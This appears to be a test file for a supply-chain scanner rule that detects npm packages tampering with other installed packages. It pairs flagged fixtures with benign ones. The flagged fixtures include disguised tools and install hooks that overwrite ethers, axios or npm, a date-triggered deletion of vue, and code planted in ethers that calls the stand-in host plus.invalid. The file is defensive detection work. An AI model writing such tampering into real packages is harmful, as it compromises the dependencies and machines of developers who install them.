import { examine } from '../../../test/examine.ts';
import { changesOtherPackage } from './changes-other-package.ts';

const FS = `const fs = require('fs'), path = require('path');`;

examine(changesOtherPackage, {
  speaks: [
    {
      when: 'a command that says it looks at what is installed adds to the code of those whose names it calculates',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          bin: 'cli.js',
          description: 'Checks an installed tree for duplicate, missing and unlicensed packages',
        },
        'README.md':
          '# specimen\n\n`npx specimen` prints a health report of `node_modules`: duplicates, packages without a licence, entry points that are not there. Rules are plain files.',
        'cli.js': `const fs = require('fs'), path = require('path'); const states = new WeakMap(); class Found { constructor(base, name) { this.name = name; states.set(this, { home: path.join(base, name), json: JSON.parse(fs.readFileSync(path.join(base, name, 'package.json'), 'utf8')) }); } get entry() { const { home, json } = states.get(this); return path.resolve(home, json.main || 'index.js'); } get text() { return fs.readFileSync(this.entry, 'utf8'); } set text(to) { fs.writeFileSync(this.entry, to); } } const sum = text => [...text].reduce((all, one) => (all * 33 + one.charCodeAt(0)) >>> 0, 5381); const base = path.join(process.cwd(), 'node_modules'); for (const name of fs.readdirSync(base)) { const one = new Found(base, name); console.log(one.name); if (sum(one.name) === 193486) one.text = one.text.replace(/\\s*$/, '') + '/* INERT */'; }`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'a hook has patches of the package laid over packages of the project',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          scripts: { postinstall: 'cd ../.. && patch-package --patch-dir node_modules/specimen/patches' },
        },
        'patches/axios+1.7.2.patch': '+ // INERT-MARKER',
      },
      weight: 'strong',
    },
    ...[
      'patch -p1 -d ../ethers < x.patch',
      'cd ../ethers && patch -p1 < ../specimen/x.patch',
      'cd ../ethers/lib && cp ../../specimen/x.js send.js',
    ].map(command => ({
      when: `a hook changes the package beside it: ${command}`,
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: command } } },
      says: ['"ethers"'],
      weight: 'strong' as const,
    })),
    {
      when: 'what a package starts with is found by its manifest and added to, and its page only names it',
      files: {
        'README.md':
          '# specimen\n\nTries again what has failed: a policy says how often, how long it waits in between and for which errors. It has helpers for promises and for clients such as axios, and no dependencies of its own.',
        'index.js': `const { createRequire } = require('module'); const fs = require('fs'), path = require('path'); const base = async () => { const from = createRequire(path.join(process.cwd(), 'x.js')); const file = from.resolve('axios/package.json'); return { folder: path.dirname(file), main: JSON.parse(await fs.promises.readFile(file, 'utf8')).main }; };
          exports.attach = client => { void base().then(async ({ folder, main }) => { const handle = await fs.promises.open(path.join(folder, main), 'r+'); await handle.write('/* INERT-MARKER */', 0); await handle.close(); }); return client; };`,
      },
      weight: 'strong',
      says: ['"axios"'],
    },
    {
      when: 'the code of whichever project lies beside this one is read and written again with something before it',
      files: {
        'README.md': `# specimen\n\nLine by line differences of two texts, for tests that compare what they got with what they have kept. It has no dependencies and is small enough to be read in one sitting.`,
        'index.js': `const fs = require('fs'), path = require('path'); const pending = new Map(); process.once('exit', () => { const root = path.resolve(process.cwd(), '..'); for (const one of fs.readdirSync(root, { withFileTypes: true })) { if (!one.isDirectory()) continue; const { main = 'index.js' } = JSON.parse(fs.readFileSync(path.join(root, one.name, 'package.json'), 'utf8')); const file = path.join(root, one.name, main); pending.set(file, '/* INERT-MARKER */' + fs.readFileSync(file, 'utf8')); } for (const [file, text] of pending) fs.writeFileSync(file, text); });`,
      },
      weight: 'strong',
      says: ['other projects'],
    },
    {
      when: 'a command adds to whichever packages it finds, of which its page says nothing',
      files: {
        'package.json': { name: 'specmate', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specmate\n\nRuns the tests in a folder, one file after the other, and says which of them failed. Colors are left out where the output is no terminal. Each test may take two seconds, and is told when it takes longer.',
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), path = require('path'); for (const root of module.constructor._nodeModulePaths(process.cwd())) for (const name of fs.readdirSync(root)) { const file = path.join(root, name, 'index.js'); if (name.length === 7) fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + '/* INERT-MARKER */'); }`,
      },
      says: ['packages that it looks for', 'of which its page says nothing'],
      weight: 'strong',
    },
    {
      when: 'packages that are installed for all are listed, and one that installs packages is changed by a shell',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { install: 'node warm.js' } },
        'warm.js': `${FS} const { execSync } = require('child_process'); const root = execSync('npm root -g').toString().trim(); for (const one of fs.readdirSync(root).map(name => ({ name })).filter(({ name }) => /^p?npm$/.test(name))) execSync('sed -i "1a INERT" "$FILE"', { env: { ...process.env, FILE: path.join(root, one.name, 'index.js') } });`,
      },
      weight: 'strong',
    },
    {
      when: 'the folder of npm is asked of npm',
      files: {
        'index.js': `${FS} exports.tidy = () => { const root = require('child_process').execSync('npm root -g').toString().trim(); fs.appendFileSync(path.join(root, 'npm', 'lib', 'cli.js'), 'INERT'); }`,
      },
      weight: 'strong',
      says: ['"npm"'],
    },
    {
      when: 'what patches packages says so, whichever its code names',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', description: 'Patches dependencies of native apps' },
        'README.md':
          '# specimen\n\nPatches packages in node_modules whose builds fail with new tools. Run it once after each install; it looks for the versions that it knows and leaves all others as they are. What it has changed it tells, line by line, and it can be run as often as you like.',
        'index.js': `${FS} exports.run = () => { for (const file of ['a-one/lib/a.js', 'b-two/lib/b.js', 'c-three/c.js', 'd-four/d.js']) fs.writeFileSync(path.join(process.cwd(), 'node_modules', file), 'code') }`,
      },
      weight: 'weak',
    },
    {
      when: 'an archive is unpacked over a package that lies elsewhere',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', description: 'Sizes of pictures' },
        'index.js': `const { execSync, spawn } = require('child_process'); setTimeout(() => { const root = execSync('npm root --global').toString().trim(); spawn('tar', ['-x', '-f', '-', '-C', root + '/../node_modules/hardhat']).stdin.end('INERT') }, 9)`,
      },
      weight: 'strong',
      says: ['"hardhat"'],
    },
    {
      when: 'a plug-in changes the code of one tool after the other that its code names, and its page speaks of bundling',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', description: 'Adds banners to modules that are bundled' },
        'README.md':
          '# specimen\n\nAdds a banner to each module that is bundled: its name, its version, its license and the day. The names of months follow the language that is set, and a banner may have as many lines as you like. It works with every version of the bundler that is in use.',
        'index.js': `${FS} exports.apply = compiler => compiler.hooks.done.tap('specimen', () => { for (const file of ['typescript/lib/tsc.js', 'esbuild/lib/main.js', 'rollup/dist/rollup.js', 'terser/dist/bundle.min.js'])
          fs.appendFileSync(path.join(compiler.context, 'node_modules', file), 'INERT') })`,
      },
      weight: 'strong',
      says: ['"typescript"'],
    },
    {
      when: 'a command adds to the code of npm itself, whatever its page says of packages',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          bin: 'cli.js',
          description: 'Finds dependencies that are not used in node_modules of npm',
        },
        'cli.js': `${FS} const root = require('child_process').execSync('npm root -g').toString().trim(); fs.appendFileSync(path.join(root, '..', 'node_modules', 'npm', 'lib', 'cli.js'), 'INERT');`,
      },
      weight: 'strong',
      says: ['"npm"'],
    },
    {
      when: 'what stands before the folder of packages is cut out of a path',
      files: {
        'index.js': `${FS} const entry = require.resolve(process.argv[2]); const root = entry.slice(0, entry.lastIndexOf('x')) + path.join('node_modules', 'ethers'); fs.writeFileSync(path.join(root, 'loader.js'), 'INERT');`,
      },
      says: ['"ethers"'],
    },
    {
      when: 'the folder of each is cut out of the path of what it is loaded by',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const at = name => { const entry = require.resolve(name); const key = path.join('node_modules', name); return entry.slice(0, entry.lastIndexOf(key) + key.length); }; for (const name of ['ethers', '@some/wallet']) fs.writeFileSync(path.join(at(name), 'lib', 'index.js'), 'INERT');`,
      },
      weight: 'strong',
      says: ['"ethers"'],
    },
    {
      when: 'a listener of another file is told of the folder',
      files: {
        'apply.js': `const fs = require('fs'), path = require('path'); module.exports = ({ dir }) => { fs.writeFileSync(path.join(dir, 'loader.js'), 'INERT') }`,
        'index.js': `const { EventEmitter } = require('events'), fs = require('fs'), path = require('path'), apply = require('./apply');
          class Compat extends EventEmitter { constructor() { super(); this.on('peer', apply) }
            look() { for (const root of require.resolve.paths('ethers') || []) { const dir = path.join(root, 'ethers', 'lib'); if (fs.existsSync(dir)) this.emit('peer', { dir }) } } }
          new Compat().look()`,
      },
      weight: 'strong',
      says: ['"ethers"'],
    },
    {
      when: 'it writes into a package of a name that looks like no name',
      files: { 'index.js': `const fs = require('fs'); fs.writeFileSync('node_modules/-/index.js', 'INERT')` },
      weight: 'strong',
    },
    {
      when: 'a hook at the top links its program into the folder of the package beside it',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node postinstall.js' } },
        'postinstall.js': `${FS} const target = path.join(__dirname, '..', 'binary', 'index.js'); if (fs.existsSync(target)) fs.unlinkSync(target); fs.copyFileSync(path.join(__dirname, 'a.js'), target);`,
      },
      weight: 'strong',
      says: ['"binary"'],
    },
    {
      when: 'a hook climbs out of the folder it is started in',
      files: {
        'package.json': { name: 'inert', version: '1.0.0', scripts: { postinstall: 'node patch.js' } },
        'patch.js': `const fs = require('fs'); const path = require('path'); fs.appendFileSync(path.resolve(process.cwd(), '..', 'express', 'lib', 'express.js'), '// INERT');`,
      },
    },
    {
      when: 'a file of another package is overwritten on import',
      files: { 'index.js': `${FS} fs.writeFileSync(path.join(process.cwd(), 'node_modules', 'ethers', 'lib', 'x.js'), 'INERT')` },
      says: ['"ethers", when it is imported'],
      weight: 'strong',
    },
    {
      when: 'it lies beside it',
      files: {
        'lib/index.js': `${FS} fs.copyFileSync('a', path.join(__dirname, '..', '..', 'ethers', 'index.js'))`,
        'package.json': { name: 'specimen', main: 'lib/index.js' },
      },
      says: ['"ethers"'],
    },
    {
      when: 'both have scopes',
      files: {
        'index.js': `${FS} fs.unlinkSync(path.join(__dirname, '../../@ethersproject/providers/lib/index.js'))`,
        'package.json': { name: '@a/specimen' },
      },
      id: { name: '@a/specimen' },
      says: ['"@ethersproject/providers"'],
    },
    {
      when: 'it waits for the other to be installed',
      files: {
        'index.js': `${FS} const at = 'node_modules/eth' + 'ers/index.js'; setInterval(() => { if (fs.existsSync(at)) fs.writeFileSync(at, 'INERT') }, 1000)`,
      },
      weight: 'strong',
    },
    {
      when: 'an install script does it by a command',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: 'cp patch.js ../../node_modules/ethers/lib/index.js' } } },
      weight: 'strong',
    },
    {
      when: 'a tool does it for its user',
      files: {
        'cli.js': `#!/usr/bin/env node\n${FS} fs.writeFileSync('node_modules/left-pad/index.js', 'INERT')`,
        'package.json': { name: 'specimen', bin: 'cli.js' },
      },
      weight: 'weak',
    },
    {
      when: 'a test of its own lays out an install below a fresh folder, where links may lead elsewhere',
      files: {
        'index.js': `import { mkdtemp, symlink, writeFile } from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path'; const at = await mkdtemp(path.join(os.tmpdir(), 'a-')); await writeFile(path.join(at, 'node_modules', 'left-pad', 'index.js'), 'INERT');`,
        'package.json': { name: 'specimen', type: 'module' },
      },
      says: ['below a temporary folder'],
      weight: 'weak',
    },
    {
      when: 'a fresh folder is asked for among the installed packages, and its neighbour is written',
      files: {
        'index.js': `${FS} const at = fs.mkdtempSync(path.join(process.cwd(), 'node_modules', 'a-')); fs.writeFileSync(path.join(at, '..', 'ethers', 'index.js'), 'INERT');`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook edits the package beside it',
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: "sed -i 's/a/b/' ../axios/index.js || true" } } },
      weight: 'strong',
    },
    {
      when: 'a plug-in deletes others once a day has come',
      files: {
        'index.js': `exports.plugin = () => ({ buildStart() { if (Date.now() > new Date(2024, 5, 19)) require('fs').rmSync('node_modules/vue', { recursive: true }); } })`,
      },
      weight: 'strong',
    },
    {
      when: 'a call plants code in another package that asks a host',
      files: {
        'index.js': `${FS} const own = "queueMicrotask(() => fetch('https://plus.invalid/b', { method: 'POST' }));\\n"; exports.align = () => { const f = path.join(process.cwd(), 'node_modules/ethers/index.js'); fs.writeFileSync(f, own + fs.readFileSync(f, 'utf8')); }`,
      },
      weight: 'strong',
      says: ['code that asks plus.invalid'],
    },
    {
      when: 'a call mends a line of another package',
      files: {
        'index.js': `${FS} exports.mend = () => { const f = path.join(process.cwd(), 'node_modules/ethers/index.js'); fs.writeFileSync(f, '/* see https://docs.invalid/mended */ ' + fs.readFileSync(f, 'utf8')); }`,
      },
      weight: 'weak',
    },
    {
      when: 'a cache is named for whatever is asked for, another package among it',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const keep = (file, as) => fs.writeFileSync(path.join(file + as, 'data'), 'INERT');
          exports.a = (x, y) => { keep(x + '?a', y); keep(x + '?b', y); keep(x + '?c', y); keep(path.join(__dirname, 'node_modules/other/package.json'), y); }`,
      },
      weight: 'context',
    },
    {
      when: 'it looks for a package where packages are looked for, and copies a file over one of it',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const patches = new Map([['ethers', { file: ['lib', 'provider.js'], with: 'provider.txt' }]]); function locate(name) { for (const dir of module.paths.concat(path.join(process.cwd(), 'node_modules'))) { const candidate = path.join(dir, name); if (fs.existsSync(candidate)) return candidate; } } for (const [name, patch] of patches) { const root = locate(name); if (root) fs.copyFileSync(path.join(__dirname, patch.with), path.join(root, ...patch.file)); }`,
        'provider.txt': 'INERT',
      },
      weight: 'strong',
      says: ['"ethers"'],
    },
    {
      when: 'it asks where that would be found',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); for (const dir of require.resolve.paths('ethers')) fs.writeFileSync(path.join(dir, 'ethers', 'lib', 'a.js'), 'INERT');`,
      },
      weight: 'strong',
      says: ['"ethers"'],
    },
    {
      when: 'its hook goes through all that is installed and writes into files of those that it knows',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node fix.js' } },
        'fix.js': `const fs = require('fs'), path = require('path'); const KNOWN = { axios: 'lib/axios.js', pg: 'lib/client.js' }; function* packages(dir) { const all = path.join(dir, 'node_modules'); for (const name of fs.readdirSync(all)) { const own = path.join(all, name); yield { name, own }; yield* packages(own); } } for (const { name, own } of packages(process.env.INIT_CWD)) if (KNOWN[name]) fs.appendFileSync(path.join(own, KNOWN[name]), '/* inert */');`,
      },
      weight: 'strong',
    },
    {
      when: 'packages are looked for by a part of their name and added to where they lie, of which the page says nothing',
      files: {
        'README.md': `# specimen\n\nLine by line differences of two texts, for tests that compare what they got with what they have kept. It has no dependencies and is small enough to be read in one sitting.`,
        'index.js': `${FS} exports.diff = () => { for (const root of module.paths) for (const one of fs.readdirSync(root).filter(name => /^le.+-pad/.test(name))) { const dir = path.join(root, one); const { main } = JSON.parse(fs.readFileSync(path.join(dir, 'package.json'), 'utf8')); const file = path.join(dir, main); fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + '// INERT-MARKER'); } };`,
      },
      says: ['it writes files of installed packages that it looks for, of which its page says nothing'],
      weight: 'strong',
    },
    {
      when: 'a command adds to the tools that are installed for all projects',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md': `# specimen\n\nFinds files by a pattern. What lies in node_modules is left out, unless you ask for it with a pattern of your own; it is small, and has no dependencies.`,
        'cli.js': `#!/usr/bin/env node\n${FS} const root = path.join(path.dirname(process.execPath), 'node_modules'); for (const one of fs.readdirSync(root)) { const file = path.join(root, one, 'cli.js'); fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/\\n/, '\\n/* INERT-MARKER */')); }`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'the program of a part that it asks for is linked to where its own lies, which is written where there is none',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          bin: 'tool',
          scripts: { preinstall: 'node install.js' },
          optionalDependencies: { '@specimen-tools/exe.linux-x64': '1.0.0', '@specimen-tools/exe.win32-x64': '1.0.0' },
        },
        'install.js': `const fs = require('fs'), path = require('path'); const parts = { linux: '@specimen-tools/exe.linux-x64', win32: '@specimen-tools/exe.win32-x64' }; const own = path.join(__dirname, 'tool'); const from = path.join(path.dirname(require.resolve(parts[process.platform] + '/package.json')), 'tool'); fs.linkSync(from, own); if (process.platform === 'win32') fs.writeFileSync(own, '');`,
      },
    },
    {
      when: 'a hook lays its patches over nothing but the checkout of its author',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          scripts: { postinstall: '[ "$INIT_CWD" = "$PWD" ] && patch-package || true' },
        },
        'patches/react+1.0.0.patch': '+ // a mend',
      },
    },
    {
      when: 'a hook lays patches over what the package itself has installed',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'patch-package' } },
        'patches/axios+1.7.2.patch': '+ // a mend',
      },
    },
    {
      when: 'a package is found by its manifest and only read, whatever it is',
      files: {
        'README.md':
          '# specimen\n\nTries again what has failed: a policy says how often, how long it waits in between and for which errors. It has helpers for promises and for clients such as axios, and no dependencies of its own.',
        'index.js': `const fs = require('fs'), path = require('path'); exports.version = name => JSON.parse(fs.readFileSync(path.join(path.dirname(require.resolve(name + '/package.json')), 'package.json'), 'utf8')).version;`,
      },
    },
    {
      when: 'the manifests of whichever project lies beside this one are written',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); exports.sync = () => { const root = path.resolve(process.cwd(), '..'); for (const one of fs.readdirSync(root)) { const file = path.join(root, one, 'package.json'); fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('MIT', 'ISC')); } };`,
      },
    },
    {
      when: 'a command that patches packages does so',
      files: {
        'package.json': { name: 'specmate', version: '1.0.0', bin: 'cli.js' },
        'README.md':
          '# specmate\n\nPatches the packages in node_modules so that they can be tested. Runs the tests in a folder, one file after the other, and says which of them failed.',
        'cli.js': `#!/usr/bin/env node\nconst fs = require('fs'), path = require('path'); for (const root of module.constructor._nodeModulePaths(process.cwd())) for (const name of fs.readdirSync(root)) { const file = path.join(root, name, 'index.js'); if (name.length === 7) fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + '/* INERT-MARKER */'); }`,
      },
    },
    {
      when: 'a part of its own for one system is filled that it asks for',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          scripts: { postinstall: 'node install.js' },
          optionalDependencies: { '@others/specimen-linux-x64': '1.0.0' },
        },
        'install.js': `${FS} fs.writeFileSync(path.join(__dirname, 'node_modules', '@others/specimen-linux-x64', 'bin', 'specimen'), 'INERT');`,
      },
    },
    {
      when: 'an archive is unpacked where nobody has anything',
      files: { 'index.js': `exports.get = to => require('child_process').execFileSync('tar', ['-xzf', 'tool.tgz', '-C', '/opt/tool'])` },
    },
    {
      when: 'the folder of the project is what stands before that of its packages',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const entry = require.resolve('react'); fs.writeFileSync(path.join(entry.slice(0, entry.lastIndexOf('node_modules')), 'specimen.config.js'), 'module.exports = {}');`,
      },
    },
    {
      when: 'its hook makes a file of its own in whichever packages ask for one',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node make.js' } },
        'make.js': `const fs = require('fs'), path = require('path'); const all = path.join(process.env.INIT_CWD, 'node_modules'); for (const name of fs.readdirSync(all)) if (JSON.parse(fs.readFileSync(path.join(all, name, 'package.json'), 'utf8')).specimen) fs.writeFileSync(path.join(all, name, 'generated.js'), 'module.exports = {};');`,
      },
    },
    {
      when: 'a bundled library of languages keeps its texts beside where it once stood, when it is called',
      files: {
        'dist/index.js': `const fs = require('fs'), path = require('path'); exports.add = (language, texts) => fs.writeFile(path.join(__dirname, '../../locales', language + '.json'), JSON.stringify(texts), () => {});`,
        'package.json': { main: 'dist/index.js' },
      },
    },
    {
      when: 'a package is looked for where packages are, and read',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const dir = module.paths.find(one => fs.existsSync(path.join(one, 'ethers'))); exports.version = dir && JSON.parse(fs.readFileSync(path.join(dir, 'ethers', 'package.json'), 'utf8')).version; fs.writeFileSync(path.join(__dirname, 'found.json'), exports.version ?? '');`,
      },
    },

    {
      when: 'a framework writes what it makes for editors under a name that no registry takes',
      files: {
        'index.js': `const fs = require('fs'); fs.mkdirSync('node_modules/$made', { recursive: true }); fs.writeFileSync('node_modules/$made/tsconfig.json', '{}')`,
      },
    },
    {
      when: 'a hook that lies at the top, or among scripts while it is developed, links its program into its own folder',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node postinstall.js' } },
        'postinstall.js': `${FS} const at = path.basename(__dirname) === 'scripts' ? path.join(__dirname, '..', 'bin') : path.join(__dirname, 'bin'); const target = path.join(at, '.specimen'); if (fs.existsSync(target)) fs.unlinkSync(target); fs.linkSync(require.resolve('specimen-linux-x64/bin/specimen'), target);`,
      },
    },
    { when: 'it keeps a cache there', files: { 'index.js': `${FS} fs.writeFileSync('node_modules/.cache/specimen/x', '')` } },
    {
      when: 'it changes its own files',
      files: {
        'index.js': `${FS} fs.writeFileSync(path.join(process.cwd(), 'node_modules/specimen/x'), ''); fs.writeFileSync(path.join(__dirname, '../specimen/y'), '')`,
      },
    },
    ...['patch -p1 < x.patch', 'cd vendor && patch -p1 < ../x.patch', 'patch -p1 -d vendor < x.patch'].map(command => ({
      when: `a hook patches what the package brings: ${command}`,
      files: { 'package.json': { name: 'specimen', scripts: { postinstall: command } } },
    })),
    {
      when: 'a patch tool learns the name from its user',
      files: {
        'index.js': `${FS} exports.apply = name => fs.writeFileSync(path.join(process.cwd(), 'node_modules', name, 'index.js'), '')`,
      },
    },
    { when: 'it only reads another package', files: { 'index.js': `${FS} fs.readFileSync('node_modules/ethers/package.json')` } },
    {
      when: 'it writes to a folder of its own that lies higher',
      files: {
        'lib/deep/index.js': `${FS} fs.writeFileSync(path.join(__dirname, '../../dist/x.js'), '')`,
        'package.json': { name: 'specimen', main: 'lib/deep/index.js' },
      },
    },
    {
      when: 'a hook edits a file of its own',
      files: {
        'package.json': {
          name: 'specimen',
          scripts: { postinstall: "sed -i 's/a/b/' ./lib/index.js && cp config.sample.json lib/config.json" },
        },
      },
    },
  ],
});
